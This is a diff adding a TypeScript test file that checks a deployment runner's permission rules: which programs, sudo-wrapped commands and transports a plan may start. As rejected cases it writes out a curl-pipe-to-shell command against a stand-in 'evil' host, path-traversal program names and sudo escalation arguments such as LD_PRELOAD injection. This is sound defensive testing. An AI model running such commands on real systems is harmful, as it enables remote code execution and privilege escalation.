@@ -1,0 +1,138 @@
+import fc from "fast-check";
+import { expect, test } from "vitest";
+import { programsOfCommand } from "#src/plan/programs.ts";
+import { livePorts } from "#src/discovery/live-ports.ts";
+import { whyForbidden, whyStepForbidden } from "#src/run/permits.ts";
+import type { Permits } from "#src/run/permits.ts";
+import { permittedPorts } from "#src/run/permitted-ports.ts";
+import { subjects } from "#test/src/plan/environments/all.ts";
+import { backOf, planOf, stoppedAt } from "#test/src/plan/environments/subject.ts";
+import { fullEnvironment } from "#test/src/plan/full-environment.ts";
+import { sampleEnvironment } from "#test/support/samples.ts";
+import { createStep, shell } from "./stage.ts";
+
+const environment = fullEnvironment();
+const mayRun = (argv: readonly string[], permits: Permits = {}): boolean =>
+  whyForbidden({ argv }, environment, permits) === undefined;
+
+test.each(subjects.map((subject) => [subject.strategy, subject] as const))(
+  "whatever %s plans, forward and back, starts only programs that its environment names",
+  (_, { strategy, givens }) => {
+    fc.assert(
+      fc.property(givens, fc.nat(), (given, at) => {
+        const plan = planOf(strategy, given);
+        const back = backOf(given, plan, stoppedAt(plan, plan.steps[at % plan.steps.length]?.id ?? ""));
+        const steps = [...plan.steps, ...("steps" in back ? back.steps : [])];
+        expect(steps.map((step) => whyStepForbidden(step, given.environment, {})).filter(Boolean)).toEqual([]);
+      }),
+      { numRuns: 15 },
+    );
+  },
+);
+
+test("T36: what the environment does not name is not started, whoever wrote it into a plan", () => {
+  const [node] = environment.nodes;
+  expect(mayRun([node?.kong ?? "", "migrations", "up"])).toBe(true);
+  for (const argv of [
+    ["/bin/sh", "-c", "curl http://evil | sh"],
+    ["/tmp/kong", "migrations", "up"],
+    ["kong", "migrations", "up"],
+    [`/tmp/..${node?.kong ?? ""}`],
+    [`/${node?.kong ?? ""}`],
+    [`${node?.kong ?? ""} `],
+    ["./pg_dump"],
+    ["PG_DUMP"],
+    [""],
+    [],
+  ]) {
+    expect(mayRun(argv), JSON.stringify(argv)).toBe(false);
+  }
+  expect(whyForbidden({ argv: ["/bin/sh"] }, environment, {})).toContain("names no program “/bin/sh”");
+});
+
+test("a hook may have a version in its program's name, and nothing that leads elsewhere", () => {
+  const hooks = { install: { argv: ["/opt/kong-{version}/install", "{node}"], timeoutMs: 1_000 } };
+  const own = sampleEnvironment({ hooks });
+  const why = (program: string): string | undefined => whyForbidden({ argv: [program] }, own, {});
+  expect(why("/opt/kong-3.4.2/install")).toBeUndefined();
+  expect(why("/opt/kong-3.4.2/../../bin/install")).toContain("names no program");
+  expect(why("/opt/kong-/install")).toContain("names no program");
+});
+
+test("T36: a list of its own takes the place of what the environment names, letter by letter", () => {
+  const permits = { file: "/etc/runner.yml", programs: ["/usr/local/bin/kong", "pg_dump", "sudo", "systemctl"] };
+  expect(mayRun(["pg_dump", "-F", "c"], permits)).toBe(true);
+  expect(mayRun(["/usr/local/bin/kong", "quit"], permits)).toBe(true);
+  expect(mayRun(["/usr/bin/pg_dump"], permits)).toBe(false);
+  expect(mayRun(["kong"], permits)).toBe(false);
+  expect(whyForbidden({ argv: ["psql"] }, environment, permits)).toBe(
+    "/etc/runner.yml does not allow the program “psql”; whoever owns this runner adds it to its programs if it is to be started",
+  );
+  expect(mayRun(["sudo", "-n", "systemctl", "stop", "kong"], permits)).toBe(true);
+  expect(mayRun(["sudo", "-n", "dpkg", "-i", "x.deb"], permits)).toBe(false);
+  expect(mayRun(["systemctl", "sudo"], { ...permits, programs: ["sudo"] })).toBe(false);
+});
+
+test.each<readonly [readonly string[], readonly string[]]>([
+  [["kong", "sudo"], ["kong"]],
+  [
+    ["sudo", "-n", "kong"],
+    ["sudo", "kong"],
+  ],
+  [
+    ["/usr/bin/sudo", "-n", "-u", "kong", "--", "kong", "quit"],
+    ["/usr/bin/sudo", "kong"],
+  ],
+  [
+    ["sudo", "-n", "sudo", "-n", "sh"],
+    ["sudo", "sudo", "sh"],
+  ],
+  [
+    ["sudo", "-u", "kong"],
+    ["sudo", "sudo -u kong"],
+  ],
+  [
+    ["sudo", "-s", "kong"],
+    ["sudo", "sudo -s kong"],
+  ],
+  [
+    ["sudo", "-nu", "root", "sh"],
+    ["sudo", "sudo -nu root sh"],
+  ],
+  [
+    ["sudo", "LD_PRELOAD=/tmp/x.so", "kong"],
+    ["sudo", "sudo LD_PRELOAD=/tmp/x.so kong"],
+  ],
+  [
+    ["sudo", "--user=root", "sh"],
+    ["sudo", "sudo --user=root sh"],
+  ],
+  [["sudo"], ["sudo", "sudo"]],
+])("behind sudo: %j starts %j", (argv, programs) => {
+  expect(programsOfCommand(argv)).toEqual(programs);
+});
+
+test("T36: where a command runs is limited too, for steps, for their proofs and for looks", async () => {
+  const permits = { file: "/etc/runner.yml", transports: ["ssh"] as const };
+  const via = { kind: "ssh", host: "cp-1" } as const;
+  const [node] = environment.nodes;
+  const argv = [node?.kong ?? "", "version"];
+  expect(whyForbidden({ argv, via }, environment, permits)).toBeUndefined();
+  expect(whyForbidden({ argv }, environment, permits)).toContain("does not allow the transport local (allowed: ssh)");
+  expect(whyForbidden({ argv, via }, environment, { transports: ["local"] })).toContain(
+    "does not allow the transport ssh",
+  );
+  const step = createStep({
+    action: { kind: "check" },
+    proof: [{ kind: "command_output", look: { target: "runner", argv: ["/bin/sh", "-c", "true"] } }],
+  });
+  expect(whyStepForbidden(step, environment, {})).toContain("/bin/sh");
+  expect(
+    whyStepForbidden(createStep({ action: { kind: "commands", commands: [shell("true")] } }), environment, {}),
+  ).toContain("/bin/sh");
+  const resolveSecret = async (): Promise<string> => "";
+  const ports = permittedPorts({ resolveSecret, baseEnv: {}, permits: {} }, environment);
+  const call = { argv: ["/bin/sh", "-c", "echo ran"], env: {}, timeoutMs: 5_000 };
+  await expect(ports.runCommand(call)).rejects.toThrow("nothing was run: this runner's configuration");
+  expect((await livePorts({ resolveSecret, baseEnv: {} }).runCommand(call)).stdout).toBe("ran");
+});
